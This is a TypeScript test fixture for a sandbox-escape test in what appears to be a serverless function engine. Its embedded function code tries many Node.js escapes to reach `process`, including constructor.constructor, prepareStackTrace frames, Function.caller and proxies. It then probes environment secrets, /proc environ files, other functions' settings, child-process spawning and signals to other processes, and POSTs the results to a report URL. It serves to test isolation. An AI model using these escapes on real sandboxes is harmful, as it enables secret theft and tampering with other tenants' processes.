/**
 * Function code that tries to get out of its sandbox, for sandbox-escape.test.ts. `ESCAPES` is a
 * script-style function: each escape tries to obtain a `process` (from every global, from values that
 * cross the boundary, through Error.prepareStackTrace, Function.caller, proxies, async stacks); with
 * each one obtained, `PROBES` tries what a hostile function wants: the engine's environment, another
 * function's secrets, the engine's data dir, a child process, a file write, signals to another process.
 * The report (one entry per escape) is POSTed to settings.reportUrl.
 */

/** `probe(p, name)`: what the process `p` (obtained by escape `name`) lets function code do. */
const PROBES = `
function describe(err) {
  return err && typeof err === 'object' ? (err.code || err.name || 'error') + ': ' + String(err.message).slice(0, 100) : String(err);
}
function probe(p, name, settings) {
  const out = { pid: p.pid, envKeys: Object.keys(p.env || {}) };
  const attempt = (what, fn) => {
    try { out[what] = 'LEAK ' + JSON.stringify(fn()).slice(0, 200); } catch (err) { out[what] = 'blocked ' + describe(err); }
  };
  const builtin = (id) => (typeof p.getBuiltinModule === 'function' ? p.getBuiltinModule(id) : p.mainModule.require(id));
  const slug = name.replace(/[^a-z0-9]+/gi, '-');
  attempt('env', () => { if (!JSON.stringify(p.env).includes(settings.canaryName)) throw new Error('no canary'); return p.env[settings.canaryName]; });
  attempt('readOtherSettings', () => builtin('fs').readFileSync(settings.victimSettings, 'utf8'));
  attempt('readSources', () => builtin('fs').readFileSync(settings.sourcesFile, 'utf8'));
  attempt('listDataDir', () => builtin('fs').readdirSync(settings.dataDir));
  attempt('readEngineEnviron', () => builtin('fs').readFileSync('/proc/' + settings.enginePid + '/environ', 'latin1'));
  attempt('spawn', () => builtin('child_process').execFileSync('/bin/echo', ['pwned']).toString());
  attempt('worker', () => new (builtin('worker_threads').Worker)('1', { eval: true }) && 'started');
  attempt('write', () => { builtin('fs').writeFileSync(settings.writeDir + '/pwned-' + slug, 'x'); return 'written'; });
  attempt('signal', () => { p.kill(Number(settings.victimPid), 'SIGTERM'); return 'sent'; });
  attempt('debugProcess', () => { p._debugProcess(Number(settings.victimPid)); return 'sent'; });
  attempt('renice', () => { builtin('os').setPriority(Number(settings.victimPid), 10); return 'reniced'; });
  return out;
}
`;

export const ESCAPES = `${PROBES}
const viaCtor = (value) => value.constructor.constructor('return process')();
const viaFn = (fn) => fn.constructor('return process')();
const isProcess = (p) => !!p && typeof p === 'object' && typeof p.pid === 'number' && !!p.env;

function grabber() {
  let found;
  const grab = (v) => {
    if (found || !v || (typeof v !== 'object' && typeof v !== 'function')) return;
    for (const get of [() => viaFn(v), () => viaCtor(v)]) {
      try { const p = get(); if (isProcess(p)) { found = p; return; } } catch {}
    }
  };
  return { grab, found: () => found };
}

/** Error.prepareStackTrace: the frames' receivers and functions while \`trigger\` runs. */
function viaStackFrames(trigger) {
  const g = grabber();
  const limit = Error.stackTraceLimit;
  Error.stackTraceLimit = Infinity;
  Error.prepareStackTrace = (err, frames) => {
    for (const f of frames) { try { g.grab(f.getThis()); } catch {} try { g.grab(f.getFunction()); } catch {} }
    return 'probed';
  };
  try { trigger(); } catch {} finally { delete Error.prepareStackTrace; Error.stackTraceLimit = limit; }
  return g.found();
}

function hostError(fn) { try { fn(); } catch (err) { return viaCtor(err); } throw new Error('did not throw'); }

function escapes(settings) {
  const url = settings.reportUrl + '/probe';
  const list = {
    'this.constructor.constructor (the global)': function () { return this.constructor.constructor('return process')(); },
    'globalThis.constructor.constructor': () => viaCtor(globalThis),
    'Object.getPrototypeOf(globalThis) chain': () => viaCtor(Object.getPrototypeOf(globalThis)),
  };
  const fns = ['fetch', 'Buffer', 'setTimeout', 'clearTimeout', 'setInterval', 'clearInterval', 'setImmediate', 'clearImmediate',
    'queueMicrotask', 'structuredClone', 'atob', 'btoa', 'TextEncoder', 'TextDecoder', 'URL', 'URLSearchParams', 'Headers',
    'Request', 'Response', 'AbortController', 'AbortSignal', 'Blob', 'FormData', 'RetryError', 'ValidationError',
    'EventNotSupported', 'InvalidEventPayload'];
  for (const name of fns) list[name + '.constructor'] = () => viaFn(globalThis[name]);
  Object.assign(list, {
    'console.constructor.constructor': () => viaCtor(console),
    'console.log.constructor': () => viaFn(console.log),
    'crypto.constructor.constructor': () => viaCtor(crypto),
    'crypto.createHash.constructor': () => viaFn(crypto.createHash),
    'crypto.webcrypto.subtle': () => viaCtor(crypto.webcrypto.subtle),
    'performance.constructor.constructor': () => viaCtor(performance),
    '_.constructor': () => viaFn(_),
    '_.map.constructor': () => viaFn(_.map),
    'AWS namespace': () => viaCtor(AWS),
    'AWS.SQS package': () => viaCtor(AWS.SQS),
    'setTimeout() handle': () => { const t = setTimeout(() => {}, 0); clearTimeout(t); return viaCtor(t); },
    'Buffer.from() value': () => viaCtor(Buffer.from('x')),
    'TextEncoder().encode() value': () => viaCtor(new TextEncoder().encode('x')),
    'structuredClone({}) result': () => viaCtor(structuredClone({})),
    'crypto.randomBytes() value': () => viaCtor(crypto.randomBytes(4)),
    '_.cloneDeep() result': () => viaCtor(_.cloneDeep({ a: [1] })),
    'fetch() promise': async () => { const pending = fetch(url); try { return viaCtor(pending); } finally { await pending.then((r) => r.text(), () => null); } },
    'fetch response': async () => { const res = await fetch(url); await res.text(); return viaCtor(res); },
    'fetch response.headers': async () => { const res = await fetch(url); await res.text(); return viaCtor(res.headers); },
    'fetch response.json() value': async () => viaCtor(await (await fetch(url)).json()),
    'fetch error (refused)': async () => { try { await fetch('http://127.0.0.1:1/'); } catch (err) { return viaCtor(err); } },
    'host error: Buffer.alloc(-1)': () => hostError(() => Buffer.alloc(-1)),
    'host error: new URL(":")': () => hostError(() => new URL(':')),
    'host error: crypto.createHash("nope")': () => hostError(() => crypto.createHash('nope')),
    'host error: structuredClone(function)': () => hostError(() => structuredClone(() => 1)),
    'Error.prepareStackTrace in a lodash callback': () => viaStackFrames(() => _.map([1], function () { return new Error('x').stack; })),
    'Error.prepareStackTrace in a toPrimitive called by Buffer.from': () => viaStackFrames(() => Buffer.from({ [Symbol.toPrimitive]() { return new Error('x').stack; } })),
    'Error.prepareStackTrace in a toString called by fetch': () => viaStackFrames(() => { fetch({ toString() { new Error('x').stack; return url; } }).catch(() => null); }),
    'Error.prepareStackTrace in a console.log inspect hook': () => viaStackFrames(() => console.log({ [Symbol.for('nodejs.util.inspect.custom')]() { return new Error('x').stack; } })),
    'async stack: prepareStackTrace after awaiting a host promise': async () => {
      await fetch(url).then((r) => r.text());
      return viaStackFrames(() => { throw new Error('x'); });
    },
    'async stack: captureStackTrace in a host promise callback': async () => {
      let found;
      await fetch(url).then(function (res) { found = viaStackFrames(() => { const o = {}; Error.captureStackTrace(o); o.stack; }); return res.text(); });
      return found;
    },
    'Function.caller from a lodash callback': () => { let found; _.map([1], function cb() { if (cb.caller) found = viaFn(cb.caller); }); return found; },
    'Function.caller from a toString called by fetch': () => { let found; fetch({ toString: function ts() { if (ts.caller) found = viaFn(ts.caller); return url; } }).catch(() => null); return found; },
    'console.log inspect.custom arguments': () => {
      const g = grabber();
      console.log({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { g.grab(options); g.grab(inspect); return 'x'; } });
      return g.found();
    },
    'Proxy traps (console.log, _.cloneDeep, Buffer.from, structuredClone)': () => {
      const g = grabber();
      const handler = new Proxy({}, { get: (_t, trap) => (...args) => { args.forEach(g.grab); return Reflect[trap](...args); } });
      const inspectHook = { [Symbol.for('nodejs.util.inspect.custom')]: (d, o, i) => { g.grab(o); g.grab(i); return 'x'; } };
      for (const use of [() => console.log(new Proxy(inspectHook, handler)), () => console.log(new Proxy({ a: 1 }, handler)),
        () => _.cloneDeep(new Proxy({ a: 1 }, handler)), () => Buffer.from(new Proxy([1, 2], handler)),
        () => structuredClone(new Proxy({ a: 1 }, handler))]) { try { use(); } catch {} }
      return g.found();
    },
  });
  return list;
}

async function onTrack(event, settings) {
  const report = [];
  for (const [name, escape] of Object.entries(escapes(settings))) {
    const entry = { escape: name, reached: false };
    try {
      const p = await escape();
      if (isProcess(p)) Object.assign(entry, { reached: true }, probe(p, name, settings));
      else entry.error = 'no process';
    } catch (err) {
      entry.error = describe(err);
    }
    report.push(entry);
  }
  await fetch(settings.reportUrl + '/report', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(report) });
  return report.length;
}
`;

/** A module-style function: its `require` is legitimate, so it is its own escape. */
export const MODULE_ESCAPES = `${PROBES}
const processModule = require('node:process');
export async function onTrack(event, settings) {
  const report = [
    { escape: "module style: require('node:process')", reached: true, ...probe(processModule, 'module-process', settings) },
    { escape: 'module style: require.constructor', reached: true, ...probe(require.constructor('return process')(), 'module-require-ctor', settings) },
  ];
  await fetch(settings.reportUrl + '/report', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(report) });
  return report.length;
}
`;

const STRING = { type: 'string', required: true };
/** function.json settings of both. */
export const ESCAPE_SETTINGS = Object.fromEntries(
  ['reportUrl', 'canaryName', 'victimSettings', 'sourcesFile', 'dataDir', 'enginePid', 'writeDir', 'victimPid'].map((n) => [n, STRING]),
);

export interface EscapeReport {
  escape: string;
  reached: boolean;
  error?: string;
  pid?: number;
  envKeys?: string[];
  [probe: string]: unknown;
}

/** The probes each reached process is put through. */
export const PROBE_NAMES = ['env', 'readOtherSettings', 'readSources', 'listDataDir', 'readEngineEnviron', 'spawn', 'worker', 'write', 'signal', 'debugProcess', 'renice'] as const;
